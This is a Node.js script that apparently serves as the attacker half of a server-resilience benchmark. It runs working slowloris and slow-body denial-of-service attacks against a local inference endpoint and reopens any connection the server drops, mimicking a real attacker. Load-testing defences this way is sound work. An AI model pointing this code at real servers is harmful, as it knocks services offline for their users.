// The hostile side of bench:slow, in its own process: `slowloris` keeps N connections sending
// one header line every few seconds (never finishing the request), `slowbody` keeps N requests
// that declare an 8 MiB body, send all but the last 64 KiB at once and then stall. A connection the
// server closes is opened again after 100 ms, as a real attacker would. Prints its counts as JSON
// on exit (after `seconds`).
// Usage: node slowAttacker.mjs <slowloris|slowbody> <port> <connections> <seconds>
import { connect } from 'node:net';

const [mode, port, count, seconds] = [process.argv[2], Number(process.argv[3]), Number(process.argv[4]), Number(process.argv[5])];
const stats = { opened: 0, closedByServer: 0, answered: {} };
const BODY = 8 * 1024 * 1024;
const chunk = Buffer.alloc(64 * 1024, 0x20); // spaces: valid JSON whitespace, whatever is parsed
let stopping = false;

function open() {
  if (stopping) return;
  const socket = connect(port, '127.0.0.1');
  stats.opened++;
  let timer;
  socket.on('connect', () => {
    const head = `POST /v2/models/digits/infer HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n`;
    if (mode === 'slowloris') {
      socket.write(head);
      timer = setInterval(() => socket.write(`X-Wait-${Math.random().toString(36).slice(2, 8)}: 1\r\n`), 5000);
    } else {
      socket.write(`${head}Content-Length: ${BODY}\r\n\r\n`);
      let sent = 0;
      const pump = () => {
        // All but the last chunk, as fast as the server takes it; then nothing.
        while (sent + chunk.length < BODY) {
          sent += chunk.length;
          if (!socket.write(chunk)) return void socket.once('drain', pump);
        }
      };
      pump();
    }
  });
  socket.on('data', (d) => {
    const status = /^HTTP\/1\.1 (\d+)/.exec(d.toString('latin1'))?.[1];
    if (status) stats.answered[status] = (stats.answered[status] ?? 0) + 1;
  });
  socket.on('error', () => {});
  socket.on('close', () => {
    clearInterval(timer);
    if (stopping) return;
    stats.closedByServer++;
    setTimeout(open, 100);
  });
  sockets.add(socket);
  socket.on('close', () => sockets.delete(socket));
}

const sockets = new Set();
for (let i = 0; i < count; i++) setTimeout(open, Math.floor(i / 100) * 10); // 100 per 10 ms
setTimeout(() => {
  stopping = true;
  for (const s of sockets) s.destroy();
  process.stdout.write(`${JSON.stringify(stats)}\n`);
  process.exit(0);
}, seconds * 1000);
